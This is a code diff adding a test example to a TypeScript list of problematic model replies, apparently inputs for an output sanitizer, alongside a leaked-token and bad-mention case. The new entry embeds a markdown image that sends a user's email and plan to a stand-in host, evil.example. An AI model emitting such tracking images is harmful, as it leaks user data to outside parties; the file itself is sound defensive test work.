@@ -40,5 +40,10 @@ export const EXAMPLES: readonly Example[] = [
   { id: 'fenced', label: 'Fenced JSON', reply: () => '```json\n' + pretty({ segments: [{ type: 'text', data: { text: 'Hello!' } }] }) + '\n```' },
   { id: 'leak', label: 'A leaked key', reply: () => pretty({ segments: [{ type: 'markdown', data: { content: `Deploy with \`GITHUB_TOKEN=${demoToken}\` and you are done.` } }] }) },
   { id: 'mention', label: 'A bad mention', reply: () => pretty({ segments: [{ type: 'mention', data: { target: '66666' } }, { type: 'text', data: { text: ' won the raffle!' } }] }) },
+  {
+    id: 'exfil',
+    label: 'A tracking image',
+    reply: () => pretty({ segments: [{ type: 'markdown', data: { content: 'Your report is ready.\n\n![report chart](https://evil.example/collect?user=ada%40example.com&plan=pro)' } }] }),
+  },
   { id: 'oversized', label: 'An oversized base64 image', reply: () => pretty({ segments: [{ type: 'text', data: { text: 'Here is the chart:' } }, { type: 'image', data: { media: { kind: 'base64', value: pngBase64(96 * 1024) } } }] }) },
 ];
